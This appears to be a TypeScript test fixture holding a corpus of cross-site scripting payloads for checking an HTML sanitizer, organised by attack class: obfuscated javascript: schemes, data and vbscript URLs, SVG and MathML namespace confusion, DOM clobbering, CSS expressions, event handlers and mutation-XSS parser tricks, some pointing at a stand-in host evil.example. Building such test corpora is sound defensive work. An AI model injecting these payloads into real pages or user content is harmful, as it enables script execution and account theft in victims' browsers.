/**
 * A second corpus of cross-site scripting payloads, organised by the attack classes that peer sanitizers
 * (DOMPurify, sanitize-html, Google Caja, the OWASP Java HTML Sanitizer) publish tests for: schemes hidden
 * behind Unicode spaces, controls or character references, other executable schemes, SVG and MathML
 * namespace confusion, nested forms and DOM clobbering, style expressions, URL attributes other than href and
 * src, and parser differentials (mutation XSS). Written here from those categories, not copied from any
 * project's fixtures. Each payload calls `alert(1)` if it runs, so a browser test can count what ran.
 */
export interface PeerXssCase {
  /** The attack class, for messages. */
  category: string;
  html: string;
}

const JS = 'alert(1)';
const char = (code: number) => String.fromCodePoint(code);
const hex = (code: number) => `U+${code.toString(16).toUpperCase().padStart(4, '0')}`;

// Unicode spaces, line and paragraph separators, format characters and C0 controls that a URL check must
// not let stand between the quote and the scheme.
const INVISIBLE = [
  0x00, 0x01, 0x08, 0x09, 0x0a, 0x0b, 0x0c, 0x0d, 0x1b, 0x1f, 0x20, 0x7f, 0x85, 0xa0, 0x1680, 0x180e,
  0x2000, 0x2003, 0x2007, 0x200a, 0x200b, 0x200d, 0x2028, 0x2029, 0x202f, 0x205f, 0x2060, 0x3000, 0xfeff,
];

const unicodeSchemes: PeerXssCase[] = INVISIBLE.flatMap((code, i) => [
  { category: `unicode space ${hex(code)} before the scheme`, html: `<a href="${char(code)}javascript:${JS}">lien</a>` },
  ...(i % 3 === 0 ? [{ category: `unicode space ${hex(code)} after the scheme name`, html: `<p><a href="javascript${char(code)}:${JS}">lien</a></p>` }] : []),
]);

const mediaWithSpaces: PeerXssCase[] = [0x2028, 0x2029, 0xa0, 0x3000, 0xfeff].flatMap((code) => [
  { category: `unicode space ${hex(code)} before an image source`, html: `<img src="${char(code)}javascript:${JS}" alt="x">` },
  { category: `unicode space ${hex(code)} before a sound source`, html: `<audio src="${char(code)}javascript:${JS}" controls></audio>` },
]);

const encodedSchemes: PeerXssCase[] = [
  '&#106;avascript:',
  '&#0000106;avascript:',
  '&#106avascript:',
  '&#x6A;avascript:',
  '&#X6a;avascript:',
  '&#x0006a;avascript:',
  'jav&#x09;ascript:',
  'jav&#9;ascript:',
  'jav&Tab;ascript:',
  'jav&NewLine;ascript:',
  'java&#x0D;script:',
  'javascript&colon;',
  'javascript&#58;',
  'javascript&#x3A;',
  '&#x20;javascript:',
  '&#8232;javascript:',
  '&#x2029;javascript:',
  '&#xFEFF;javascript:',
  '&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;',
  '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058',
].map((scheme) => ({ category: `character references in the scheme (${scheme.slice(0, 14)}…)`, html: `<a href="${scheme}${JS}">lien</a>` }));

const splitSchemes: PeerXssCase[] = ['java\tscript:', 'java\nscript:', 'java\rscript:', 'java\r\nscript:', ' \n\tjavascript:', 'JaVaScRiPt:', 'JAVASCRIPT:', 'javascript://%0A']
  .map((scheme) => ({ category: `scheme split or cased (${JSON.stringify(scheme)})`, html: `<a href="${scheme}${JS}">lien</a>` }));

const otherSchemes: PeerXssCase[] = [
  `<a href="vbscript:msgbox(1)">lien</a>`,
  `<a href="VBScript:${JS}">lien</a>`,
  `<a href="livescript:${JS}">lien</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">lien</a>`,
  `<a href="data:text/html,<script>${JS}</script>">lien</a>`,
  `<a href="DATA:text/html,<script>${JS}</script>">lien</a>`,
  `<a href="data:image/svg+xml,<svg onload=${JS}>">lien</a>`,
  `<a href="blob:https://ent.exemple.fr/0b6b6a4e">lien</a>`,
  `<a href="filesystem:https://ent.exemple.fr/temporary/x.html">lien</a>`,
  `<a href="view-source:javascript:${JS}">lien</a>`,
  `<a href="jar:https://exemple.fr/x.jar!/x.html">lien</a>`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+" alt="x">`,
  `<img src="vbscript:${JS}" alt="x">`,
  `<audio src="data:audio/wav;base64,UklGRg==" onloadstart="${JS}" controls></audio>`,
].map((html) => ({ category: 'other executable or opaque schemes', html }));

const otherHosts: PeerXssCase[] = [
  `<a href="//evil.example/x">lien</a>`,
  `<a href="/\\evil.example/x">lien</a>`,
  `<a href="\\\\evil.example/x">lien</a>`,
  `<a href="\\/evil.example/x">lien</a>`,
  `<img src="//evil.example/pixel.png" alt="x">`,
].map((html) => ({ category: 'protocol-relative addresses (another host)', html }));

const namespaceConfusion: PeerXssCase[] = [
  `<svg><a xlink:href="javascript:${JS}"><text x="20" y="20">lien</text></a></svg>`,
  `<svg><a href="javascript:${JS}"><rect width="100" height="100"/></a></svg>`,
  `<math><mi xlink:href="javascript:${JS}">lien</mi></math>`,
  `<math href="javascript:${JS}">lien</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${JS}">lien</maction></math>`,
  `<svg><style><img src=x onerror=${JS}></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${JS}></style></mglyph></table></mtext></math>`,
  `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${JS}>"></style></mtext></svg></mglyph></h1></mtext></math>`,
  `<svg><foreignObject><img src=x onerror=${JS}></foreignObject></svg>`,
  `<svg><animate onbegin=${JS} attributeName=x dur=1s></animate></svg>`,
  `<svg><set attributeName="href" to="javascript:${JS}"></set><a><text>lien</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${JS}'/></svg>#x"></use></svg>`,
  `<svg><script>${JS}</script></svg>`,
  `<svg><title><![CDATA[</title><img src=x onerror=${JS}>]]></title></svg>`,
  `<math><mtext><select><mglyph><style><img src=x onerror=${JS}></style></mglyph></select></mtext></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${JS}>"></p></noscript>`,
  `<svg><desc><p><img src=x onerror=${JS}></p></desc></svg>`,
].map((html) => ({ category: 'SVG and MathML namespace confusion', html }));

const formsAndClobbering: PeerXssCase[] = [
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${JS}>`,
  `<form action="javascript:${JS}"><button type="submit">envoyer</button></form>`,
  `<form><button formaction="javascript:${JS}">envoyer</button></form>`,
  `<form><input type="image" src="x" formaction="javascript:${JS}"></form>`,
  `<form><input type="submit" formaction="javascript:${JS}" value="envoyer"></form>`,
  `<isindex action="javascript:${JS}" type="image">`,
  `<form id="x"><input name="attributes"><input name="nodeName"></form><img src=x onerror=${JS}>`,
  `<img name="getElementById"><form name="cookie"><input name="x"></form><a id="x" href="javascript:${JS}">lien</a>`,
].map((html) => ({ category: 'nested forms, form actions and DOM clobbering', html }));

const styleAttacks: PeerXssCase[] = [
  `<p style="width: expression(${JS})">x</p>`,
  `<p style="color: e\\78pression(${JS})">x</p>`,
  `<p style="background-image: url(javascript:${JS})">x</p>`,
  `<p style="background: url('javascript:${JS}')">x</p>`,
  `<p style="behavior: url(x.htc)">x</p>`,
  `<p style="-moz-binding: url(https://evil.example/x.xml#xss)">x</p>`,
  `<p style="color: red; /* */ background-image: url(&quot;javascript:${JS}&quot;)">x</p>`,
  `<span style="color:#fff;position:fixed;top:0;left:0;width:100%;height:100%">x</span>`,
  `<style>@import 'javascript:${JS}';</style><p>x</p>`,
  `<style>p { background: url(javascript:${JS}) }</style><p>x</p>`,
  `<p style="animation-name: x" onanimationstart="${JS}">x</p><style>@keyframes x {}</style>`,
].map((html) => ({ category: 'style expressions and stylesheets', html }));

const urlAttributes: PeerXssCase[] = [
  `<img srcset="javascript:${JS} 1x" alt="x">`,
  `<img src="/api/core/text-images/1" srcset=",,javascript:${JS} 2x" alt="x">`,
  `<picture><source srcset="javascript:${JS}"><img src="x" onerror="${JS}"></picture>`,
  `<a href="https://exemple.fr" ping="javascript:${JS}">lien</a>`,
  `<object data="javascript:${JS}"></object>`,
  `<embed src="javascript:${JS}">`,
  `<iframe srcdoc="<script>${JS}</script>"></iframe>`,
  `<iframe src="javascript:${JS}"></iframe>`,
  `<video poster="javascript:${JS}" src="x" onerror="${JS}"></video>`,
  `<table background="javascript:${JS}"><tr><td>x</td></tr></table>`,
  `<td background="javascript:${JS}">x</td>`,
  `<body background="javascript:${JS}">`,
  `<input type="image" src="javascript:${JS}">`,
  `<link rel="import" href="data:text/html,<script>${JS}</script>">`,
  `<base href="javascript:${JS}//"><a href="/x">lien</a>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`,
  `<blockquote cite="javascript:${JS}">x</blockquote>`,
  `<img src="x" lowsrc="javascript:${JS}" dynsrc="javascript:${JS}">`,
  `<a xlink:href="javascript:${JS}">lien</a>`,
  `<audio><source src="javascript:${JS}" onerror="${JS}"></audio>`,
].map((html) => ({ category: 'URL attributes other than href and src', html }));

const handlersOnAllowedTags: PeerXssCase[] = [
  `<p onclick="${JS}">x</p>`,
  `<img src="/api/core/text-images/1" onerror="${JS}" alt="x">`,
  `<img src="https://images.exemple.fr/x.png" onload="${JS}" alt="x">`,
  `<a href="https://exemple.fr" onmouseover="${JS}">lien</a>`,
  `<audio src="/api/core/files/1" onloadstart="${JS}" controls></audio>`,
  `<span data-type="emoji" onanimationstart="${JS}">x</span>`,
  `<td onpointerenter="${JS}">x</td>`,
  `<IMG SRC="/api/x" ONERROR="${JS}">`,
  `<img/src="x"/onerror=${JS}>`,
  `<img src=x\nonerror=${JS}>`,
  `<img src=x onerror\t=${JS}>`,
  `<img """><script>${JS}</script>">`,
  `<p title="x" onfocus=${JS} tabindex=0 autofocus>x</p>`,
].map((html) => ({ category: 'event handlers on allowed tags', html }));

const parserDifferentials: PeerXssCase[] = [
  `<p title="</p><img src=x onerror=${JS}>">x</p>`,
  `<a title="&lt;img src=x onerror=${JS}&gt;" href="https://exemple.fr">lien</a>`,
  `<<img src=x onerror=${JS}>`,
  `<img src="x\` onerror=${JS}>`,
  `<!--<img src=x onerror=${JS}>-->`,
  `<!-- --!><img src=x onerror=${JS}> -->`,
  `<![CDATA[<img src=x onerror=${JS}>]]>`,
  `<textarea><img src=x onerror=${JS}></textarea>`,
  `<title><img src=x onerror=${JS}></title>`,
  `<xmp><img src=x onerror=${JS}></xmp>`,
  `<noembed><img src=x onerror=${JS}></noembed>`,
  `<template><img src=x onerror=${JS}></template>`,
  `<plaintext><img src=x onerror=${JS}>`,
  `<script>${JS}</script>`,
  `<scr<script>ipt>${JS}</script>`,
  `<div data-type="block-math" data-latex="\\href{javascript:${JS}}{x}"></div>`,
  `<span data-type="inline-math" data-latex="\\url{javascript:${JS}}"></span>`,
].map((html) => ({ category: 'parser differentials and raw text elements', html }));

/** The peer corpus: the payloads above, by attack class. */
export const PEER_XSS_CORPUS: readonly PeerXssCase[] = [
  ...unicodeSchemes,
  ...mediaWithSpaces,
  ...encodedSchemes,
  ...splitSchemes,
  ...otherSchemes,
  ...otherHosts,
  ...namespaceConfusion,
  ...formsAndClobbering,
  ...styleAttacks,
  ...urlAttributes,
  ...handlersOnAllowedTags,
  ...parserDifferentials,
];
